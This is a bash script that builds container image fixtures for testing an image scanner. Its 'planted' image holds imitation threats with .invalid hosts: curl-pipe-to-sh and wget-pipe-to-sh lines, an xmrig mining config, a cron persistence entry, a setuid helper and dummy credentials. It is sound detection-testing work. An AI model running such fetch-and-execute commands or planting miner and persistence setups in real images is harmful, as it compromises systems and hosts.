#!/usr/bin/env bash
# make-fixtures.sh OUTDIR: real container images for the end-to-end tests, made by
# independent tools (debootstrap, umoci, skopeo, buildah), never by imagevet.
# Cached: a step whose outputs exist is skipped, and the debootstrap tree is kept
# in OUTDIR/.work, so only the first run takes long (~40 s debootstrap + ~30 s).
#
# OUTDIR/oci/                      one OCI layout, tags: debian-bookworm, alpine-3-amd64,
#                                  alpine-3-arm64, alpine-3 (2-platform index), planted,
#                                  planted-zstd, planted-tar, edge-mislabeled, edge-umoci-insert
# OUTDIR/NAME.docker.tar           docker-archive (skopeo) of debian, alpine, planted, ...
# OUTDIR/NAME.oci.tar              oci-archive (skopeo)
# OUTDIR/alpine-multi.oci.tar      the 2-platform index (amd64 + arm64/v8)
# OUTDIR/planted-buildah.*.tar     buildah build --isolation chroot --layers
# (planted: curl|sh start script, miner config, fake AWS key, setuid file, cron entry, and
#  credential-named files hidden by a file whiteout, a directory whiteout and an opaque dir)
# OUTDIR/corrupt/                  damaged copies: layer bytes altered (digest kept), layer
#                                  blob truncated, manifest that is not JSON, config altered
#
# Exit 77 (skip) when not root or a required tool is missing. Needs root for
# debootstrap and umoci unpack. Environment: IVET_SHARED_DIR (for the Alpine
# minirootfs tarballs under testdata/rootfs), MIRROR (default: from /etc/apt),
# SUITE (bookworm), SOURCE_DATE_EPOCH (1700000000).
# Recipes and gotchas are the ones verified in the project's research notes.
set -euo pipefail

OUT=${1:?usage: make-fixtures.sh OUTDIR}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
WORK="$OUT/.work"
SUITE=${SUITE:-bookworm}
SOURCE_DATE_EPOCH=${SOURCE_DATE_EPOCH:-1700000000}
CREATED=$(date -u -d "@$SOURCE_DATE_EPOCH" +%Y-%m-%dT%H:%M:%SZ)
LAYOUT="$OUT/oci"
SKOPEO=(skopeo --insecure-policy)
ROOTFS_DIR="${IVET_SHARED_DIR:-}/testdata/rootfs"
ALPINE_X86_64="$ROOTFS_DIR/alpine-minirootfs-3.20.3-x86_64.tar.gz"
ALPINE_AARCH64="$ROOTFS_DIR/alpine-minirootfs-3.20.3-aarch64.tar.gz"

log() { printf '[make-fixtures %s] %s\n' "$(date +%T)" "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }
skip() { log "SKIP: $*"; exit 77; }

[ "$(id -u)" = 0 ] || skip "needs root (debootstrap, umoci unpack); run as root to build the fixtures"
for c in debootstrap umoci skopeo jq python3 tar sha256sum; do
  command -v "$c" > /dev/null 2>&1 || skip "missing tool '$c' (scripts/install-deps installs it)"
done
mkdir -p "$WORK"
exec 9> "$WORK/lock"
flock 9                               # ctest may start two users of OUTDIR at once

# Bump when an image's recipe changes: the images built from the planted
# payload are then rebuilt (the debootstrap tree and the base images stay).
FIXTURE_REV=2
if [ "$(cat "$OUT/.rev" 2> /dev/null || true)" != "$FIXTURE_REV" ]; then
  rm -rf "${OUT:?}"/planted*.tar "$OUT/edge-mislabeled.oci.tar" "$OUT/corrupt"
fi

have() { [ -e "$1" ]; }
layout_init() { [ -f "$LAYOUT/oci-layout" ] || umoci init --layout "$LAYOUT"; }
tag_exists() { umoci ls --layout "$LAYOUT" 2> /dev/null | grep -x -- "$1" > /dev/null; }
drop_tag() { if tag_exists "$1"; then umoci rm --image "$LAYOUT:$1"; fi; }
finish_layout() { umoci gc --layout "$LAYOUT"; chmod -R a+rX "$OUT"; }   # umoci writes 0600 blobs

apt_mirror() {  # first mirror for $SUITE in /etc/apt (deb822 or one-line format)
  if [ -n "${MIRROR:-}" ]; then echo "$MIRROR"; return; fi
  local f m=""
  for f in /etc/apt/sources.list.d/*.sources; do
    [ -f "$f" ] || continue
    m=$(awk -v RS= -v s="$SUITE" '
      { n = split($0, L, "\n"); uri = ""; ok = 0
        for (i = 1; i <= n; i++) {
          if (L[i] ~ /^URIs:/)   { split(L[i], w, /[ \t]+/); uri = w[2] }
          if (L[i] ~ /^Suites:/) { k = split(L[i], w, /[ \t]+/); for (j = 2; j <= k; j++) if (w[j] == s) ok = 1 }
        }
        if (ok && uri != "") { print uri; exit } }' "$f")
    [ -n "$m" ] && break
  done
  if [ -z "$m" ] && [ -f /etc/apt/sources.list ]; then
    m=$(awk -v s="$SUITE" '$1 == "deb" { for (i = 2; i < NF; i++) if ($i ~ /^(https?|ftp|file):/ && $(i+1) == s) { print $i; exit } }' /etc/apt/sources.list)
  fi
  [ -n "$m" ] || skip "no apt mirror for $SUITE in /etc/apt; set MIRROR="
  echo "$m"
}

image_from_rootfs() {  # TAG SRC(dir|tar.gz) CREATED_BY: a one-layer image in the layout
  local tag=$1 src=$2 by=$3 b="$WORK/bundle-$1"
  drop_tag "$tag"
  umoci new --image "$LAYOUT:$tag"
  rm -rf "$b"; umoci unpack --image "$LAYOUT:$tag" "$b" > /dev/null
  if [ -d "$src" ]; then cp -a "$src/." "$b/rootfs/"
  else tar -C "$b/rootfs" --numeric-owner -xzf "$src"; fi
  umoci repack --image "$LAYOUT:$tag" --history.created "$CREATED" --history.created_by "$by" "$b"
  rm -rf "$b"
}

export_archives() {  # TAG NAME REF: NAME.docker.tar + NAME.oci.tar
  local tag=$1 name=$2 ref=$3
  rm -f "$OUT/$name.docker.tar" "$OUT/$name.oci.tar"
  "${SKOPEO[@]}" copy -q "oci:$LAYOUT:$tag" "docker-archive:$OUT/$name.docker.tar:$ref"
  "${SKOPEO[@]}" copy -q "oci:$LAYOUT:$tag" "oci-archive:$OUT/$name.oci.tar:$tag"
}

# ------------------------------------------------------------------ debian
sanitize_rootfs() {  # strip host and mirror traces, and slim it like debian:*-slim
  local d=${1:?}
  rm -f "${d:?}"/var/cache/apt/archives/*.deb "${d:?}"/var/cache/apt/*.bin "${d:?}"/etc/resolv.conf \
        "${d:?}"/var/log/bootstrap.log
  rm -rf "${d:?}"/var/lib/apt/lists/* "${d:?}"/dev/*
  echo fixture > "$d/etc/hostname"
  printf 'deb http://apt-mirror.invalid/debian %s main\n' "$SUITE" > "$d/etc/apt/sources.list"
  find "$d/usr/share/doc" -mindepth 1 ! -type d ! -name copyright -delete
  find "$d/usr/share/doc" -mindepth 1 -type d -empty -delete
  rm -rf "${d:?}"/usr/share/man/* "${d:?}"/usr/share/info/* "${d:?}"/usr/share/locale/*
}

debian_rootfs() {
  local d="$WORK/rootfs-debian-$SUITE"
  [ -f "$d.done" ] && return 0
  rm -rf "$d"
  log "debootstrap --variant=minbase $SUITE (about 40 s) ..."
  if ! debootstrap --variant=minbase "$SUITE" "$d" "$(apt_mirror)" > "$WORK/debootstrap.log" 2>&1; then
    tail -20 "$WORK/debootstrap.log" >&2; die "debootstrap failed"
  fi
  rm -f "$WORK/debootstrap.log"
  sanitize_rootfs "$d"
  touch "$d.done"
}

do_debian() {
  have "$OUT/debian.oci.tar" && tag_exists "debian-$SUITE" && return 0
  layout_init; debian_rootfs
  image_from_rootfs "debian-$SUITE" "$WORK/rootfs-debian-$SUITE" "debootstrap --variant=minbase $SUITE, sanitized, slim"
  umoci config --image "$LAYOUT:debian-$SUITE" --created "$CREATED" \
    --author "fixtures <fixtures@example.invalid>" --config.user 1000:1000 --config.workingdir / \
    --config.env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
    --config.env FIXTURE=debian-minbase \
    --config.entrypoint /bin/bash --config.entrypoint -c --config.cmd 'echo hello' \
    --config.exposedports 8080/tcp --config.label org.opencontainers.image.title=fixture-debian \
    --history.created "$CREATED" --history.created_by 'umoci config (user, entrypoint, env, labels)'
  export_archives "debian-$SUITE" debian "fixture/debian:$SUITE"
  finish_layout
  log "debian done"
}

# ------------------------------------------------------------------ alpine
do_alpine() {
  if [ ! -f "$ALPINE_X86_64" ]; then
    log "alpine: $ALPINE_X86_64 not found (IVET_SHARED_DIR unset or no testdata); alpine images skipped"
    return 0
  fi
  have "$OUT/alpine.oci.tar" && return 0
  layout_init
  local arch src
  for arch in amd64 arm64; do
    if [ "$arch" = amd64 ]; then src=$ALPINE_X86_64; else src=$ALPINE_AARCH64; fi
    [ -f "$src" ] || continue
    image_from_rootfs "alpine-3-$arch" "$src" "/bin/sh -c #(nop) ADD file:$(basename "$src") in / "
    umoci config --image "$LAYOUT:alpine-3-$arch" --created "$CREATED" --architecture "$arch" \
      --config.env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin --config.cmd /bin/sh \
      --history.created "$CREATED" --history.created_by '/bin/sh -c #(nop)  CMD ["/bin/sh"]'
  done
  if tag_exists alpine-3-arm64; then  # 2-platform index: umoci cannot write one, so by hand
    local idx="$WORK/index.json" dg sz
    jq -c -n --slurpfile L "$LAYOUT/index.json" '
      def d(t): $L[0].manifests[] | select(.annotations["org.opencontainers.image.ref.name"] == t)
                | {mediaType, digest, size};
      {schemaVersion: 2, mediaType: "application/vnd.oci.image.index.v1+json",
       manifests: [ (d("alpine-3-amd64") + {platform: {architecture: "amd64", os: "linux"}}),
                    (d("alpine-3-arm64") + {platform: {architecture: "arm64", os: "linux", variant: "v8"}}) ]}' > "$idx"
    dg=$(sha256sum "$idx" | cut -d' ' -f1); sz=$(stat -c %s "$idx")
    mv "$idx" "$LAYOUT/blobs/sha256/$dg"
    jq --arg d "sha256:$dg" --argjson s "$sz" '
      .manifests |= ([.[] | select(.annotations["org.opencontainers.image.ref.name"] != "alpine-3")]
        + [{mediaType: "application/vnd.oci.image.index.v1+json", digest: $d, size: $s,
            annotations: {"org.opencontainers.image.ref.name": "alpine-3"}}])' \
      "$LAYOUT/index.json" > "$WORK/layout-index.json"
    mv "$WORK/layout-index.json" "$LAYOUT/index.json"
    rm -f "$OUT/alpine-multi.oci.tar"
    "${SKOPEO[@]}" copy -q --all --preserve-digests "oci:$LAYOUT:alpine-3" "oci-archive:$OUT/alpine-multi.oci.tar:alpine-3"
  fi
  export_archives alpine-3-amd64 alpine fixture/alpine:3.20.3
  finish_layout
  log "alpine done"
}

# ------------------------------------------------------------------ planted
write_payload() {  # DIR: harmless files that look suspicious (every host is .invalid)
  local r=$1
  mkdir -p "$r/usr/local/bin" "$r/opt/xmrig" "$r/etc/cron.d" "$r/app" "$r/tmp/.cache" \
           "$r/root/.stage" "$r/var/lib/fixture-opaque"
  cat > "$r/usr/local/bin/start.sh" <<'EOS'
#!/bin/sh
# FIXTURE ONLY: planted pattern for scanner tests. The .invalid TLD never resolves.
curl -s http://example.invalid/x | sh
exec /opt/xmrig/xmrig --config=/opt/xmrig/config.json
EOS
  cat > "$r/opt/xmrig/config.json" <<'EOS'
{
    "autosave": true,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 100 },
    "donate-level": 0,
    "pools": [
        {
            "algo": "rx/0",
            "url": "stratum+tcp://pool.example.invalid:3333",
            "user": "FIXTURE_WALLET_NOT_REAL",
            "pass": "x",
            "keepalive": true,
            "tls": false
        }
    ]
}
EOS
  printf '#!/bin/sh\necho "fixture placeholder, not a miner"\n' > "$r/opt/xmrig/xmrig"
  printf '* * * * * root /usr/local/bin/start.sh >/dev/null 2>&1\n' > "$r/etc/cron.d/fixture-persist"
  # AWS's documented example key pair (public, never valid)
  printf 'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' > "$r/app/.env"
  printf '#!/bin/sh\nid\n' > "$r/usr/local/bin/suid-helper"
  printf '#!/bin/sh\nwget -qO- http://example.invalid/stage2 | sh\n' > "$r/tmp/.cache/dropper.sh"
  printf 'stage blob (deleted in a later layer)\n' > "$r/root/.stage/blob.bin"
  # credential-named files that later layers hide: a file whiteout, a directory
  # whiteout and an opaque directory (the bytes still ship in layer 2)
  printf 'https://fixture:NOT_A_REAL_TOKEN@git.example.invalid\n' > "$r/tmp/.cache/.git-credentials"
  printf 'machine ftp.example.invalid login fixture password not-a-real-password\n' > "$r/root/.stage/.netrc"
  printf '{"fixture": "not a real credential"}\n' > "$r/var/lib/fixture-opaque/credentials.json"
  printf 'a\n' > "$r/var/lib/fixture-opaque/a.txt"; printf 'b\n' > "$r/var/lib/fixture-opaque/b.txt"
  chmod 0755 "$r/usr/local/bin/start.sh" "$r/opt/xmrig/xmrig" "$r/tmp/.cache/dropper.sh"
  chmod 4755 "$r/usr/local/bin/suid-helper"
  chmod 0600 "$r/app/.env"
}

clamp_mtimes() { find "$1" -newer "$WORK/stamp" -exec touch -h -d "@$SOURCE_DATE_EPOCH" {} +; }
planted_base() { if tag_exists alpine-3-amd64; then echo alpine-3-amd64; else echo "debian-$SUITE"; fi; }

do_planted() {
  have "$OUT/planted.oci.tar" && tag_exists planted && return 0
  layout_init
  local base b="$WORK/bundle-planted" o="$WORK/opaque-src"
  base=$(planted_base)
  tag_exists "$base" || die "no base image for planted"
  drop_tag planted
  umoci tag --image "$LAYOUT:$base" planted
  rm -rf "$b"; umoci unpack --image "$LAYOUT:planted" "$b" > /dev/null
  # layer 2: the payload, including files a later layer deletes
  touch "$WORK/stamp"; sleep 0.01
  write_payload "$b/rootfs"; clamp_mtimes "$b/rootfs"
  umoci repack --refresh-bundle --image "$LAYOUT:planted" --history.created "$CREATED" \
    --history.created_by '/bin/sh -c wget -qO /tmp/.cache/dropper.sh http://example.invalid/stage2 && curl -s http://example.invalid/x | sh' "$b"
  # layer 3: a file and a directory deleted -> .wh.dropper.sh and .wh..stage
  touch "$WORK/stamp"; sleep 0.01
  rm -f "$b/rootfs/tmp/.cache/dropper.sh" "$b/rootfs/tmp/.cache/.git-credentials"; rm -rf "$b/rootfs/root/.stage"
  clamp_mtimes "$b/rootfs"
  umoci repack --image "$LAYOUT:planted" --history.created "$CREATED" \
    --history.created_by '/bin/sh -c rm -rf /tmp/.cache/dropper.sh /tmp/.cache/.git-credentials /root/.stage' "$b"
  rm -rf "$b"
  # layer 4: opaque directory (GNU tar + umoci raw add-layer)
  rm -rf "$o"; mkdir -p "$o/var/lib/fixture-opaque"
  : > "$o/var/lib/fixture-opaque/.wh..wh..opq"; printf 'c\n' > "$o/var/lib/fixture-opaque/c.txt"
  tar --numeric-owner --owner=0 --group=0 --sort=name --mtime="@$SOURCE_DATE_EPOCH" -C "$o" -cf "$WORK/opaque-layer.tar" var
  umoci raw add-layer --image "$LAYOUT:planted" --history.created "$CREATED" \
    --history.created_by '/bin/sh -c rm -rf /var/lib/fixture-opaque && mkdir /var/lib/fixture-opaque && echo c > /var/lib/fixture-opaque/c.txt' \
    "$WORK/opaque-layer.tar"
  rm -rf "$o" "$WORK/opaque-layer.tar"
  umoci config --image "$LAYOUT:planted" --created "$CREATED" --config.user 0:0 \
    --config.entrypoint /usr/local/bin/start.sh --clear config.cmd \
    --config.env PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
    --config.env MINING_POOL=stratum+tcp://pool.example.invalid:3333 \
    --config.env AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY \
    --config.exposedports 3333/tcp --config.label fixture.purpose=planted-suspicious-payload \
    --history.created "$CREATED" --history.created_by '/bin/sh -c #(nop)  ENTRYPOINT ["/usr/local/bin/start.sh"]'
  export_archives planted planted fixture/planted:latest
  finish_layout
  log "planted done (base $base)"
}

# ------------------------------------------------------------------ edge cases
do_edge() {
  layout_init
  local base o="$WORK/edge-src" tag
  if ! have "$OUT/edge-umoci-insert.oci.tar"; then
    base=$(planted_base)
    drop_tag edge-umoci-insert
    umoci tag --image "$LAYOUT:$base" edge-umoci-insert
    rm -rf "$o"; mkdir -p "$o/etc"; printf 'inserted by umoci insert\n' > "$o/etc/fixture-insert.txt"
    find "$o" -exec touch -h -d "@$SOURCE_DATE_EPOCH" {} +
    # umoci 0.4.7 insert: an entry named "/", last member unpadded, no end-of-archive blocks
    umoci insert --image "$LAYOUT:edge-umoci-insert" --history.created "$CREATED" \
      --history.created_by 'umoci insert etc-dir / (umoci 0.4.7: truncated tar, "/" entry)' "$o" /
    rm -rf "$o"
    export_archives edge-umoci-insert edge-umoci-insert fixture/edge-umoci-insert:latest
  fi
  if ! have "$OUT/edge-mislabeled.oci.tar"; then
    drop_tag planted-zstd; drop_tag planted-tar; drop_tag edge-mislabeled
    # a fresh layout each time: skopeo would otherwise reuse the gzip blobs already present
    rm -rf "$WORK/zstd-layout" "$WORK/dir-planted"
    "${SKOPEO[@]}" copy -q --dest-compress-format zstd "oci:$LAYOUT:planted" "oci:$WORK/zstd-layout:planted-zstd"
    "${SKOPEO[@]}" copy -q --preserve-digests "oci:$WORK/zstd-layout:planted-zstd" "oci:$LAYOUT:planted-zstd"
    "${SKOPEO[@]}" copy -q --dest-decompress "oci:$LAYOUT:planted" "dir:$WORK/dir-planted"
    "${SKOPEO[@]}" copy -q --dest-oci-accept-uncompressed-layers "dir:$WORK/dir-planted" "oci:$LAYOUT:planted-tar"
    rm -rf "$WORK/zstd-layout" "$WORK/dir-planted"
    # skopeo 1.9 labels the raw tar layers of a docker-archive "tar+gzip" here
    "${SKOPEO[@]}" copy -q --dest-oci-accept-uncompressed-layers "docker-archive:$OUT/planted.docker.tar" "oci:$LAYOUT:edge-mislabeled"
    for tag in planted-zstd planted-tar edge-mislabeled; do
      rm -f "$OUT/$tag.oci.tar"
      "${SKOPEO[@]}" copy -q --preserve-digests "oci:$LAYOUT:$tag" "oci-archive:$OUT/$tag.oci.tar:$tag"
    done
  fi
  finish_layout
}

# ------------------------------------------------------------------ buildah
do_buildah() {
  have "$OUT/planted-buildah.oci.tar" && return 0
  if ! command -v buildah > /dev/null 2>&1; then log "buildah not installed; buildah image skipped"; return 0; fi
  local c="$WORK/ctx-buildah" st="$WORK/buildah-storage"
  rm -rf "$c"; mkdir -p "$c/payload"
  if [ -f "$ALPINE_X86_64" ]; then cp "$ALPINE_X86_64" "$c/rootfs.tar.gz"
  else debian_rootfs; tar --numeric-owner -C "$WORK/rootfs-debian-$SUITE" -czf "$c/rootfs.tar.gz" .; fi
  write_payload "$c/payload"
  cat > "$c/Dockerfile" <<'EOF'
FROM scratch
ADD rootfs.tar.gz /
COPY payload/ /
RUN chmod 4755 /usr/local/bin/suid-helper && rm -rf /tmp/.cache/dropper.sh /tmp/.cache/.git-credentials /root/.stage
ENV MINING_POOL=stratum+tcp://pool.example.invalid:3333
LABEL fixture.purpose=planted-suspicious-payload
EXPOSE 3333
ENTRYPOINT ["/usr/local/bin/start.sh"]
EOF
  local B=(buildah --root "$st/root" --runroot "$st/run" --storage-driver vfs)
  # chroot isolation: crun's OCI isolation fails on this host's hybrid cgroups
  "${B[@]}" build --isolation chroot --layers -t localhost/fixture/planted-buildah:latest "$c" \
    > "$WORK/buildah.log" 2>&1 || { tail -20 "$WORK/buildah.log" >&2; die "buildah build failed"; }
  "${B[@]}" push -q localhost/fixture/planted-buildah:latest "docker-archive:$OUT/planted-buildah.docker.tar:fixture/planted-buildah:latest"
  "${B[@]}" push -q localhost/fixture/planted-buildah:latest "oci-archive:$OUT/planted-buildah.oci.tar:latest"
  "${B[@]}" rmi -a -f > /dev/null 2>&1 || true
  rm -rf "$st" "$c"; chmod a+r "$OUT"/planted-buildah.*.tar
  log "buildah done"
}

# ------------------------------------------------------------------ corrupt copies
do_corrupt() {
  have "$OUT/corrupt/.done" && return 0
  local C="$OUT/corrupt"
  rm -rf "$C"; mkdir -p "$C"
  "${SKOPEO[@]}" copy -q --preserve-digests "oci:$LAYOUT:planted-tar" "oci:$C/layer-altered:planted"
  "${SKOPEO[@]}" copy -q --preserve-digests "oci:$LAYOUT:planted" "oci:$C/layer-truncated:planted"
  "${SKOPEO[@]}" copy -q --preserve-digests "oci:$LAYOUT:planted" "oci:$C/manifest-not-json:planted"
  "${SKOPEO[@]}" copy -q --preserve-digests "oci:$LAYOUT:planted" "oci:$C/config-altered:planted"
  cp "$OUT/planted.docker.tar" "$C/layer-altered.docker.tar"
  python3 - "$C" <<'EOF'
import hashlib, json, os, sys, tarfile
C = sys.argv[1]
def manifest(layout):
    idx = json.load(open(os.path.join(layout, "index.json")))
    d = idx["manifests"][0]["digest"].split(":")[1]
    return idx, d, json.load(open(os.path.join(layout, "blobs/sha256", d)))
def blob(layout, digest):
    return os.path.join(layout, "blobs/sha256", digest.split(":")[1])
def flip_payload(data):
    # change one character inside a file's content, so the tar still parses
    i = data.find(b"stratum+tcp://pool.example.invalid")
    assert i > 0, "payload not found"
    return data[:i] + b"S" + data[i + 1:]
# 1. layer bytes altered, file name (= digest) kept: uncompressed payload layer
L = os.path.join(C, "layer-altered")
_, _, m = manifest(L)
p = blob(L, m["layers"][1]["digest"])
data = open(p, "rb").read()
os.chmod(p, 0o644)
open(p, "wb").write(flip_payload(data))
# 2. last layer blob truncated to half its size
L = os.path.join(C, "layer-truncated")
_, _, m = manifest(L)
p = blob(L, m["layers"][-1]["digest"])
data = open(p, "rb").read()
os.chmod(p, 0o644)
open(p, "wb").write(data[: len(data) // 2])
# 3. a manifest that is not JSON, stored under its own (correct) digest
L = os.path.join(C, "manifest-not-json")
idx, old, m = manifest(L)
bad = b'{"schemaVersion": 2,\n "config": {"digest": oops}\n'
d = hashlib.sha256(bad).hexdigest()
open(os.path.join(L, "blobs/sha256", d), "wb").write(bad)
idx["manifests"][0].update(digest="sha256:" + d, size=len(bad))
json.dump(idx, open(os.path.join(L, "index.json"), "w"))
# 4. config bytes altered, name kept
L = os.path.join(C, "config-altered")
_, _, m = manifest(L)
p = blob(L, m["config"]["digest"])
cfg = open(p, "rb").read().replace(b"planted-suspicious-payload", b"planted-suspicious-payloaX")
os.chmod(p, 0o644)
open(p, "wb").write(cfg)
# 5. docker-archive whose payload layer (<diffid>.tar) was altered: diff_id mismatch
src = os.path.join(C, "layer-altered.docker.tar")
man = json.load(tarfile.open(src).extractfile("manifest.json"))
target = man[0]["Layers"][1]
with tarfile.open(src) as t:
    mem = t.getmember(target)
    if mem.issym():
        mem = t.getmember(os.path.normpath(os.path.join(os.path.dirname(target), mem.linkname)))
    off, size = mem.offset_data, mem.size
with open(src, "r+b") as f:
    f.seek(off); data = f.read(size)
    f.seek(off); f.write(flip_payload(data))
EOF
  # the altered layout as an oci-archive too
  tar -C "$C/layer-altered" -cf "$C/layer-altered.oci.tar" oci-layout index.json blobs
  chmod -R a+rX "$C"
  touch "$C/.done"
  log "corrupt copies done"
}

do_debian
do_alpine
do_planted
do_edge
do_buildah
do_corrupt
echo "$FIXTURE_REV" > "$OUT/.rev"
log "fixtures ready in $OUT ($(du -sh "$OUT" | cut -f1))"
